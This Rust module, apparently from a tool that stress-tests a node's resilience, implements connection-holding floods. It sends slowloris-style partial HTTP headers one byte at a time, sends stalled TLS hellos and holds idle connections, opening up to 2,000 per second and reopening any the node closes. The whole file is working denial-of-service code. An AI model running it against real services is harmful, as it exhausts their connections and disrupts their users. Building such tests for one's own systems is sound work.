//! Floods that hold connections: slow heads and idle ones. What the node closes is opened again.

use std::collections::VecDeque;
use std::time::Duration;

use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, MissedTickBehavior, interval};

use super::attack::Target;

/// Connections opened per second.
pub(super) const OPENED_PER_S: usize = 2_000;
/// Steps per second in which they are.
const STEPS_PER_S: usize = 100;
/// Each connection gets a byte this often.
const BYTE_EVERY: Duration = Duration::from_secs(1);
const SLOW_HEAD: &[u8] = b"GET /v1/tasks HTTP/1.1\r\nhost: localhost\r\nx-slow: ";
/// The same a layer below: a first message of TLS, of which 512 bytes are announced.
const SLOW_HELLO: &[u8] = &[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3];

/// A connection, and when it is looked at next.
type Held = (Instant, TcpStream);

/// What a held connection says.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Says {
    /// Nothing.
    Nothing,
    /// The first bytes of what is wanted, and then a byte at a time.
    Crumbs,
    /// The first message of a handshake, and nothing to the answer.
    Hello,
}

impl Says {
    fn first(self, target: &Target) -> Vec<u8> {
        match self {
            Says::Nothing => Vec::new(),
            Says::Crumbs if target.way.is_secure() => SLOW_HELLO.to_vec(),
            Says::Crumbs => SLOW_HEAD.to_vec(),
            Says::Hello => target.way.hello().unwrap_or_default(),
        }
    }
}

/// Holds as many connections as it may, until it is dropped.
pub(super) async fn hold(target: &Target, says: Says) {
    let (first, slow) = (says.first(target), says == Says::Crumbs);
    let mut pulse = interval(Duration::from_secs(1) / STEPS_PER_S as u32);
    pulse.set_missed_tick_behavior(MissedTickBehavior::Delay);
    let mut held: VecDeque<Held> = VecDeque::new();
    let mut opening: JoinSet<Option<TcpStream>> = JoinSet::new();
    loop {
        pulse.tick().await;
        while let Some(opened) = opening.try_join_next() {
            if let Ok(Some(stream)) = opened {
                // A node that has closed already is met at the next look.
                let _ = stream.try_write(&first);
                held.push_back((Instant::now() + BYTE_EVERY, stream));
            }
        }
        tend(&mut held, target, slow);
        for _ in 0..OPENED_PER_S / STEPS_PER_S {
            if held.len() + opening.len() < target.connections {
                let target = target.clone();
                opening.spawn(async move { target.connect().await });
            }
        }
    }
}

/// Sends what is due, and counts those that the node has closed.
fn tend(held: &mut VecDeque<Held>, target: &Target, slow: bool) {
    let now = Instant::now();
    while held.front().is_some_and(|(due, _)| *due <= now) {
        let Some((_, stream)) = held.pop_front() else { return };
        let sent = !slow || !stream.try_write(b"a").is_err_and(|error| !is_full(&error));
        let open = is_open(&stream);
        match sent && open {
            true => held.push_back((now + BYTE_EVERY, stream)),
            false => target.tally.count_turned_away(),
        }
    }
}

/// Whether the node has not closed it; what it says in a handshake is thrown away.
fn is_open(stream: &TcpStream) -> bool {
    let mut scratch = [0; 4096];
    loop {
        match stream.try_read(&mut scratch) {
            Ok(0) => return false,
            Ok(_) => {}
            Err(error) => return is_full(&error),
        }
    }
}

fn is_full(error: &std::io::Error) -> bool {
    error.kind() == std::io::ErrorKind::WouldBlock
}
